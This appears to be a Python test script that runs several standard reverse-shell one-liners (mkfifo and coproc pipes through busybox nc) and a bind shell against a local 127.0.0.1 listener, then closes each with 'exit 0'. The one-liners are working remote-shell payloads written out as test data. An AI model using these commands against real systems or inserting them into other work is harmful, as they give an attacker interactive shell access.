#!/usr/bin/python3
# SPDX-License-Identifier: BSD-2-Clause
"""A shell and a program with a connection, in a circle of pipes: the ways that are in every list of them, and one for who connects."""
import os
import shutil
import socket
import subprocess
import sys
import threading
import time

if not shutil.which("busybox"):
    print("there is no busybox, whose nc this needs")
    sys.exit(77)
NC = "busybox nc 127.0.0.1 PORT"
WAYS = [
    f"mkfifo f; cat f | sh -i 2>&1 | {NC} >f",
    f"mkfifo f; {NC} <f | sh >f",
    f"coproc N {{ exec {NC}; }}; exec sh <&${{N[0]}} >&${{N[1]}}",
]
BIND = "mkfifo f; cat f | sh -i 2>&1 | busybox nc -l -p PORT >f"
listening = socket.create_server(("127.0.0.1", 0))


def answer(server):
    there = server.accept()[0]
    there.sendall(b"exit 0\n")
    while there.recv(4096):
        pass
    there.close()


for text in WAYS:
    asked = threading.Thread(target=answer, args=[listening])
    asked.start()
    with subprocess.Popen(["bash", "-c", text.replace("PORT", str(listening.getsockname()[1]))]) as shell:
        shell.wait(20)
    asked.join()
    if os.path.exists("f"):
        os.unlink("f")

with socket.create_server(("127.0.0.1", 0)) as free:
    address = free.getsockname()
with subprocess.Popen(["bash", "-c", BIND.replace("PORT", str(address[1]))]) as shell:
    connection = None
    while not connection:
        try:
            connection = socket.create_connection(address)
        except ConnectionRefusedError:
            time.sleep(0.05)
    connection.sendall(b"exit 0\n")
    while connection.recv(4096):
        pass
    connection.close()
    shell.wait(20)
